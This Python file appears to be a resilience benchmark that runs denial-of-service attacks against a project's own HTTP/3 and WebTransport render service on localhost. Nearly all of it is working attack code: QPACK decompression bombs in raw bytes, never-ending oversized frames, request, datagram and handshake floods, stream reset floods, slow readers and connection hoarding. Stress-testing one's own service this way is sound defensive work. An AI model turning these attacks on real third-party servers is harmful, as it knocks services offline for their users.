"""Attacks on the render service over HTTP/3 and WebTransport."""

from __future__ import annotations

import asyncio
import itertools
import json
import socket
import time
from contextlib import AsyncExitStack

from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.buffer import encode_uint_var
from aioquic.h3.connection import FrameType, StreamType, encode_frame
from aioquic.quic.connection import QuicConnection

from benchmarks.hostile.attacker import ADDRESS, Attacker, attack
from benchmarks.hostile.client import connect_as, request
from tigas.http3 import configuration

LOW = json.dumps(request(profile=3)).encode()
HIGH = json.dumps(request(1280, 720, profile=0)).encode()
PICTURE = json.dumps(request(1280, 720, format="png")).encode()
LARGEST = json.dumps(request(4096, 4096)).encode()
GIBIBYTE = 1 << 30
# QPACK (RFC 9204): a table of 4,096 bytes, an entry of 3,901 in it, and a request that names it a thousand times
ENTRY = b"\x3f" + b"\xe1\x1f" + b"\x41x" + b"\x7f\xbd\x1d" + bytes(3900)
FIELDS = b"\xd1\xd7\xc1" + b"\x50\x09localhost"
DYNAMIC_BOMB = b"\x02\x00" + FIELDS + b"\x80" * 1000
STATIC_BOMB = b"\x00\x00" + FIELDS + b"\xfa" * 1000
"""The same with an entry of the static table, which every server has: one byte for 69."""
BOMBS = itertools.cycle((DYNAMIC_BOMB, STATIC_BOMB))
SIZES = itertools.cycle((GIBIBYTE, 16 * 1024))
OPENING = asyncio.Semaphore(8)
"""Handshakes of a hoard: more at once, and none is complete in time."""


@attack()
async def qpack_bomb(attacker: Attacker) -> None:
    """Header sections that are a kilobyte on the wire and megabytes in memory."""
    bomb = next(BOMBS)
    async with attacker.connect() as client:
        if bomb is DYNAMIC_BOMB:
            assert client.h3._local_encoder_stream_id is not None
            client.raw(client.h3._local_encoder_stream_id, ENTRY)
        while True:
            client.raw(client.quic.get_next_available_stream_id(), encode_frame(FrameType.HEADERS, bomb))
            attacker.done["bombs"] += 1
            await asyncio.sleep(0.01)


@attack(copies=8)
async def endless_frames(attacker: Attacker) -> None:
    """Frames that promise a gibibyte, or as much as is allowed, and never end."""
    size = next(SIZES)
    async with attacker.connect() as client:
        start = encode_uint_var(FrameType.HEADERS) + encode_uint_var(size)
        streams = []
        for _ in range(60):
            streams.append(client.quic.get_next_available_stream_id())
            client.raw(streams[-1], start + bytes(size - 200 if size < GIBIBYTE else 32_000))
            attacker.done["frames"] += 1
            await asyncio.sleep(0)
        for stream_id in itertools.cycle(streams):
            client.raw(stream_id, b"\x00")
            await asyncio.sleep(0.01)


@attack(copies=8)
async def endless_settings(attacker: Attacker) -> None:
    """Control streams with a first frame that announces a gibibyte and never ends."""
    async with connect_as(QuicConnectionProtocol, attacker.ports.quic, ADDRESS) as connection:
        attacker.done["connections"] += 1
        control = connection._quic.get_next_available_stream_id(is_unidirectional=True)
        start = encode_uint_var(StreamType.CONTROL) + encode_uint_var(FrameType.SETTINGS) + encode_uint_var(GIBIBYTE)
        connection._quic.send_stream_data(control, start)
        while connection._quic._close_event is None:
            connection._quic.send_stream_data(control, bytes(16_000))
            connection.transmit()
            attacker.done["parts of 16 kB"] += 1
            await asyncio.sleep(0.05)


@attack(copies=8)
async def request_flood(attacker: Attacker) -> None:
    """Eight viewers that ask for frames as fast as they can."""
    async with attacker.connect() as client:
        session = await client.session()
        await asyncio.gather(*(attacker.ask(client, session, LOW) for _ in range(60)))


@attack(copies=4)
async def datagram_flood(attacker: Attacker) -> None:
    """Requests by datagram, as many as leave the machine."""
    async with attacker.connect() as client:
        session = await client.session()
        while not client.is_closed:
            for _ in range(10):
                client.h3.send_datagram(session, LOW)
            client.transmit()
            attacker.done["requests"] += 10
            await asyncio.sleep(0.005)


@attack(copies=8)
async def slow_readers(attacker: Attacker) -> None:
    """Large pictures that are requested and not read."""
    async with attacker.connect(max_data=GIBIBYTE, max_stream_data=4096) as client:
        client.quic._write_stream_limits = lambda *_, **__: None  # type: ignore[method-assign]
        session = await client.session()
        for _ in range(60):
            client.open_stream(session, PICTURE)
            attacker.done["requests"] += 1
            await asyncio.sleep(0.1)
        await client.until(lambda: client.is_closed)


@attack(name="16-megapixels")
async def sixteen_megapixels(attacker: Attacker) -> None:
    """One viewer with four requests for the largest frames that there are."""
    async with attacker.connect() as client:
        session = await client.session()
        await asyncio.gather(*(attacker.ask(client, session, LARGEST) for _ in range(4)))


@attack(copies=34, guests=("newcomer",))
async def many_sessions(attacker: Attacker) -> None:
    """34 connections with four sessions each, every one of which asks for large frames."""
    async with attacker.connect() as client:

        async def watch() -> None:
            session = await client.session()
            attacker.done["sessions"] += 1
            await attacker.ask(client, session, HIGH)

        await asyncio.gather(*(watch() for _ in range(4)))


@attack(copies=4)
async def abandoned_streams(attacker: Attacker) -> None:
    """Requests that are taken back at once."""
    async with attacker.connect() as client:
        session = await client.session()
        while not client.is_closed:
            streams = [client.open_stream(session, HIGH) for _ in range(10)]
            await asyncio.sleep(0.01)
            for stream_id in streams:
                client.stop(stream_id)
            attacker.done["cancelled"] += len(streams)


@attack(copies=8, guests=("newcomer",))
async def stream_resets(attacker: Attacker) -> None:
    """Streams that are opened and reset at once, so that they may be opened again."""
    async with attacker.connect() as client:
        session = await client.session()
        while not client.is_closed:
            client.reset(client.open_stream(session, b"", end=False))
            attacker.done["reset"] += 1
            await asyncio.sleep(0.001)


@attack(copies=4)
async def datagram_pictures(attacker: Attacker) -> None:
    """Large pictures by datagram, to clients that take only small datagrams."""
    async with attacker.connect(max_datagram_frame_size=128) as client:
        session = await client.session()
        while not client.is_closed:
            client.h3.send_datagram(session, PICTURE)
            client.transmit()
            attacker.done["requests"] += 1
            await asyncio.sleep(0.01)


@attack(copies=6)
async def new_videos(attacker: Attacker) -> None:
    """Sessions that ask for key frames at bit rates that change, and are given up for new ones."""
    async with attacker.connect() as client:
        for _ in range(4):
            session = await client.session()
            attacker.done["sessions"] += 1
            for seq in range(1, 61):
                video = {"bitrate_kbps": 50 if seq % 2 else 100_000, "key": True}
                body = json.dumps(request(1280, 720, format="h264", profile=0, seq=seq, video=video)).encode()
                attacker.done[f"status {await client.frame_status(session, body)}"] += 1


@attack(copies=8)
async def unfinished_requests(attacker: Attacker) -> None:
    """Requests of which the last byte never comes."""
    async with attacker.connect() as client:
        session = await client.session()
        while True:
            client.open_stream(session, LOW[:-1] + b" " * 12_000, end=False)
            attacker.done["requests"] += 1
            await asyncio.sleep(0.05)


@attack(guests=("newcomer",))
async def handshake_flood(attacker: Attacker) -> None:
    """First packets of abandoned connections, from a thousand ports."""
    sockets = []
    for _ in range(1000):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((ADDRESS, 0))
        sock.setblocking(False)
        sockets.append(sock)
    server = ("127.0.0.1", attacker.ports.quic)
    made: list[bytes] = []
    for sock in itertools.cycle(sockets):
        if len(made) < 2000:  # to make one takes longer than to send it: the later ones are sent again
            quic = QuicConnection(configuration=configuration())
            quic.connect(server, now=time.monotonic())
            made.append(quic.datagrams_to_send(now=time.monotonic())[0][0])
        try:
            sock.sendto(made[attacker.done["initial packets"] % len(made)], server)
            attacker.done["initial packets"] += 1
        except BlockingIOError:
            attacker.done["held back"] += 1
        await asyncio.sleep(0.0005)


@attack(copies=600, guests=("newcomer",))
async def connection_hoard(attacker: Attacker) -> None:
    """Six hundred connections that are kept and not used."""
    async with AsyncExitStack() as stack:
        async with OPENING:
            client = await stack.enter_async_context(attacker.connect())
        while not client.is_closed:
            client.quic.send_ping(1)
            client.transmit()
            await asyncio.sleep(5)
